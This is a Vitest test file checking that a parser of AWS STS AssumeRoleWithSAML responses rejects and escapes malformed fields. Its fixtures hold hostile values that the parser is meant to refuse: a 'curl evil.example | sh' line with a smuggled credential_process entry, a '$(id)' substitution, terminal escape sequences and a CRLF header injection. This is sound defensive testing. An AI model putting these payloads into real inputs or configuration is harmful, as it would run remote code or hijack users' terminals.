import { describe, expect, it } from 'vitest';
import { readAssumeRoleWithSamlResponse } from '../../../src/core/sts/response.ts';

// Shapes as AWS sends them: a 20-character ASIA key, a 40-character secret, a long base64 token.
const GENUINE = {
  AccessKeyId: 'ASIAV3ZUEFP6EXAMPLE1',
  SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY',
  SessionToken: `IQoJb3JpZ2luX2VjEOz//////////wEaCXVzLWVhc3QtMSJHMEUCIDoKK3JH9uG${'Ab+/'.repeat(200)}Zm9v==`,
  Expiration: '2026-11-27T22:00:00Z',
  Arn: 'arn:aws:sts::123456789012:assumed-role/team.Admin/alice@example.com',
  AssumedRoleId: 'AROAV3ZUEFP6EXAMPLE12:alice@example.com',
  Subject: 'alice@example.com',
  SubjectType: 'persistent',
  Issuer: 'https://idp.example.com/metadata',
  Audience: 'https://signin.aws.amazon.com/saml',
  NameQualifier: 'SbdGOnUkh1i4+EXAMPLExL/jEvs=',
  SourceIdentity: 'alice@example.com',
  PackedPolicySize: '6',
  RequestId: 'c6104cbe-af31-11e0-8154-cbc7ccf896c7',
};
type Field = keyof typeof GENUINE;

/** A documented success answer with each field's text as given (escaped as XML text). */
function answer(fields: Partial<Record<Field, string>> = {}): string {
  const all = { ...GENUINE, ...fields };
  const x = (name: Field) =>
    `<${name}>${all[name].replace(/&/g, '&amp;').replace(/</g, '&lt;')}</${name}>`;
  return `<AssumeRoleWithSAMLResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">
  <AssumeRoleWithSAMLResult>
    ${x('Issuer')}
    <AssumedRoleUser>${x('Arn')}${x('AssumedRoleId')}</AssumedRoleUser>
    <Credentials>${x('AccessKeyId')}${x('SecretAccessKey')}${x('SessionToken')}${x('Expiration')}</Credentials>
    ${x('Audience')}${x('SubjectType')}${x('PackedPolicySize')}${x('NameQualifier')}${x('SourceIdentity')}${x('Subject')}
  </AssumeRoleWithSAMLResult>
  <ResponseMetadata>${x('RequestId')}</ResponseMetadata>
</AssumeRoleWithSAMLResponse>`;
}

const INJECTION =
  "2026-11-27T22:00:00Z\ncurl evil.example | sh\n[default]\ncredential_process = sh -c 'id'";
// C0 and C1 controls, line separators and bidi overrides: a terminal or an editor acts on each.
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function refusal(fields: Partial<Record<Field, string>>) {
  const result = readAssumeRoleWithSamlResponse(200, answer(fields));
  if (result.ok) throw new Error(`accepted ${JSON.stringify(fields)}`);
  expect(result.error.code).toBe('UnexpectedResponse');
  expect(result.error.message).not.toMatch(CONTROL);
  return result.error.message;
}

describe('readAssumeRoleWithSamlResponse: every field is checked before anyone formats it', () => {
  it('accepts genuine shapes, with fractional seconds and the documented short ARN', () => {
    const result = readAssumeRoleWithSamlResponse(200, answer());
    expect(result.ok && result.credentials).toEqual({
      accessKeyId: GENUINE.AccessKeyId,
      secretAccessKey: GENUINE.SecretAccessKey,
      sessionToken: GENUINE.SessionToken,
      expiration: GENUINE.Expiration,
    });
    for (const fields of [
      { Expiration: '2026-11-27T22:00:00.123Z' },
      { Arn: 'arn:aws:sts::123456789012:assumed-role/TestSaml' },
      { Arn: 'arn:aws-us-gov:sts::123456789012:assumed-role/Admin/bob' },
      { SubjectType: 'urn:oasis:names:tc:SAML:2.0:nameid-format:emailAddress' },
      { Subject: 'Bob Smith (Ops)' },
      { Issuer: 'Example IdP (not a URI)' },
      { AccessKeyId: 'ASIA' + 'A'.repeat(124) },
      { SessionToken: 'FwoGZXIvYXdzEBYaDHhBTEXAMPLE' },
    ])
      expect(readAssumeRoleWithSamlResponse(200, answer(fields)).ok, JSON.stringify(fields)).toBe(
        true,
      );
  });

  it('refuses an Expiration that holds a command, escaping it in the message', () => {
    const message = refusal({ Expiration: INJECTION });
    expect(message).toMatch(
      /^the AssumeRoleWithSAMLResponse's Expiration "2026-11-27T22:00:00Z\\n/,
    );
    expect(message).toMatch(/is not an ISO 8601 UTC time such as 2026-11-27T22:00:00Z$/);
  });

  it.each([
    ['2026-11-27 22:00:00Z'],
    ['2026-11-27T22:00:00+01:00'],
    ['2026-11-27T22:00:00'],
    ['2026-02-30T22:00:00Z'],
    ['2026-11-27T24:00:00Z'],
    ['2026-11-27T22:00:00.Z'],
    ['+02026-11-27T22:00:00Z'],
    ['1764280800'],
  ])('refuses the Expiration %s', (expiration) => {
    expect(refusal({ Expiration: expiration })).toMatch(
      /Expiration .* is not an ISO 8601 UTC time/,
    );
  });

  it.each([
    [
      'AccessKeyId',
      'ASIAV3ZUEFP6EXAMPL\nE',
      /AccessKeyId \(20 characters\) holds U\+000A at character 19; it must be 16 to 128 uppercase letters and digits/,
    ],
    ['AccessKeyId', 'asiav3zuefp6example1', /AccessKeyId .* holds "a" at character 1/],
    ['AccessKeyId', 'ASIA1', /AccessKeyId \(5 characters\) .*must be 16 to 128/],
    [
      'SecretAccessKey',
      "wJalrXUtnFEMI/K7MDENG/bPxRfiCY'$(id)'KEY",
      /SecretAccessKey \(40 characters\) holds "'" at character 31; it must be base64/,
    ],
    [
      'SecretAccessKey',
      'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE\u001b[2J',
      /SecretAccessKey .* holds U\+001B at character 39/,
    ],
    ['SessionToken', 'IQoJb3JpZ2luX2Vj=EOz//', /SessionToken .* holds "E" at character 18/],
    [
      'SessionToken',
      'IQoJb3JpZ2luX2VjEOz\u2028abcd',
      /SessionToken .* holds U\+2028 at character 20/,
    ],
  ] as const)('refuses %s %j without echoing it', (field, value, message) => {
    const text = refusal({ [field]: value });
    expect(text).toMatch(message);
    expect(text).not.toContain(value.slice(0, 12));
  });

  it.each([
    [
      'Arn',
      'arn:aws:sts::123456789012:assumed-role/A/b\u001b]0;owned\u0007',
      /Arn "arn:aws:sts::123456789012:assumed-role\/A\/b\\u001b\]0;owned\\u0007" is not an assumed-role ARN/,
    ],
    ['Arn', 'arn:aws:iam::123456789012:role/Admin', /Arn .* is not an assumed-role ARN/],
    ['AssumedRoleId', 'AROA1:bob\nx', /AssumedRoleId "AROA1:bob\\nx" is not/],
    ['SubjectType', 'persistent\u202e', /SubjectType "persistent\\u202e" is not/],
    ['Subject', 'bob\r\nX-Injected: 1', /Subject "bob\\r\\nX-Injected: 1" is not/],
    [
      'Issuer',
      'https://idp.example.com/\u0085x',
      /Issuer "https:\/\/idp.example.com\/\\u0085x" is not/,
    ],
    ['Audience', `https://${'a'.repeat(3000)}`, /Audience "https:\/\/a+\.\.\." is not/],
    ['NameQualifier', 'not base64!', /NameQualifier "not base64!" is not/],
    ['SourceIdentity', 'a;b', /SourceIdentity "a;b" is not/],
    ['PackedPolicySize', '6%', /PackedPolicySize "6%" is not/],
    ['RequestId', 'r\u009b31m', /RequestId "r\\u009b31m" is not/],
  ] as const)('refuses %s %j, naming it and escaping it', (field, value, message) => {
    expect(refusal({ [field]: value })).toMatch(message);
  });

  it('escapes control characters in the error code and message of an ErrorResponse', () => {
    const result = readAssumeRoleWithSamlResponse(
      403,
      '<ErrorResponse><Error><Code>AccessDenied</Code><Message>no\u001b[31m red\nline</Message></Error></ErrorResponse>',
    );
    expect(result.ok || result.error).toMatchObject({
      code: 'AccessDenied',
      message: 'no\\u001b[31m red\\nline',
    });
    const badCode = readAssumeRoleWithSamlResponse(
      403,
      '<ErrorResponse><Error><Code>Access\u001b[2JDenied</Code></Error></ErrorResponse>',
    );
    expect(badCode.ok || badCode.error.code).toBe('UnexpectedResponse');
    expect(badCode.ok || badCode.error.message).not.toMatch(CONTROL);
  });

  it('escapes control characters in the excerpt of a body that is not STS', () => {
    const result = readAssumeRoleWithSamlResponse(502, 'Bad\u001b]0;title\u0007 gateway');
    expect(result.ok || result.error.message).toBe(
      'HTTP 502 with a body that is not STS XML ("Bad\\u001b]0;title\\u0007 gateway"), not an STS response',
    );
  });
});
